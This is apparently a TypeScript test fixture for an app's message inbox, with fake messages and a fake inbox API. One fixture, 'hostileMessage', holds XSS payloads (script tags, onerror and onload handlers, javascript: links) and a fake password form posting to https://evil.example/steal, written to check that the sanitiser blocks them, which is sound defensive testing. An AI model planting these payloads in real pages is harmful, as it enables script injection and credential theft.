import { PlatformError } from '@lobbykit/platform';
import type { FakeAnswers } from '../../../../core/testing/fake-platform.ts';

export interface FakeMessage {
  id: number;
  title: string;
  template: string;
  read: boolean;
  createTime: number;
  content: string;
}

const templates = [
  'withdrawal-approved',
  'notice',
  'deposit-credited',
  'deposit-failed',
  'withdrawal-rejected',
  'welcome',
];

/** 2025-06-02 09:00 UTC, the story fixtures' clock. */
export const inboxClock = Date.UTC(2025, 5, 2, 9, 0);

/** `count` messages, newest first, an hour apart; every third one unread. */
export function someMessages(count: number): FakeMessage[] {
  return Array.from({ length: count }, (_, index) => ({
    id: 100 + index,
    title: `Message ${index + 1}`,
    template: templates[index % templates.length]!,
    read: index % 3 !== 0,
    createTime: inboxClock - index * 3_600_000,
    content: `<p>The whole of message ${index + 1}, with <strong>bold</strong> words.</p>`,
  }));
}

/**
 * The sandbox's "Formatting test" message (apps/sandbox/src/db/seed/inbox.ts): every trick a
 * compromised back office could publish, none of which may run.
 */
export const hostileMessage: FakeMessage = {
  id: 16,
  title: 'Formatting test: nothing in this message may run',
  template: 'notice',
  read: false,
  createTime: inboxClock,
  content: [
    '<p>This message tests the inbox’s sanitiser. You should see this line and a word in <strong>bold</strong>, and nothing should happen.</p>',
    `<img src="x" onerror="alert('message-xss')">`,
    `<script>document.title = 'owned'</script>`,
    `<p><a href="javascript:alert('message-xss')">A link that must not run</a></p>`,
    '<iframe src="https://evil.example/frame"></iframe>',
    `<p onclick="alert('message-xss')" onmouseover="alert('message-xss')" style="background-image:url(javascript:alert(1))">A paragraph with inline handlers.</p>`,
    `<svg onload="alert('message-xss')"></svg>`,
    '<form action="https://evil.example/steal" method="post"><input name="password" type="password"><button>Confirm</button></form>',
  ].join(''),
};

const noSuchMessage = (call: string) =>
  new PlatformError('invalid-request', call, 'refused', { serverMessage: 'No such message.' });

/**
 * The platform's inbox calls over a list of messages, as the sandbox answers them: pages of 12 with
 * plain-text previews, every change answering the new unread count, refusals for unknown ids.
 */
export function fakeInbox(messages: FakeMessage[]) {
  const inbox = { messages: [...messages] };
  const unread = () => inbox.messages.filter((message) => !message.read).length;
  const own = (ids: number[], call: string) => {
    const found = inbox.messages.filter((message) => ids.includes(message.id));
    if (found.length === 0) throw noSuchMessage(call);
    return found;
  };
  const answers: FakeAnswers = {
    unreadCount: () => unread(),
    messages: ({ pageNo, pageSize }: { pageNo: number; pageSize: number }) => ({
      list: inbox.messages
        .slice((pageNo - 1) * pageSize, pageNo * pageSize)
        .map(({ content, ...message }) => ({ ...message, preview: content.replace(/<[^>]*>/g, '') })),
      totalPages: Math.ceil(inbox.messages.length / pageSize),
    }),
    messageDetail: ({ id }: { id: number }) => {
      const [message] = own([id], 'messageDetail');
      return { ...message };
    },
    markMessagesRead: ({ ids }: { ids: number[] }) => {
      for (const message of own(ids, 'markMessagesRead')) message.read = true;
      return { unread: unread() };
    },
    markAllMessagesRead: () => {
      for (const message of inbox.messages) message.read = true;
      return { unread: 0 };
    },
    deleteMessages: ({ ids }: { ids: number[] }) => {
      const deleted = own(ids, 'deleteMessages');
      inbox.messages = inbox.messages.filter((message) => !deleted.includes(message));
      return { deleted: deleted.length, unread: unread() };
    },
  };
  return { inbox, answers, unread };
}
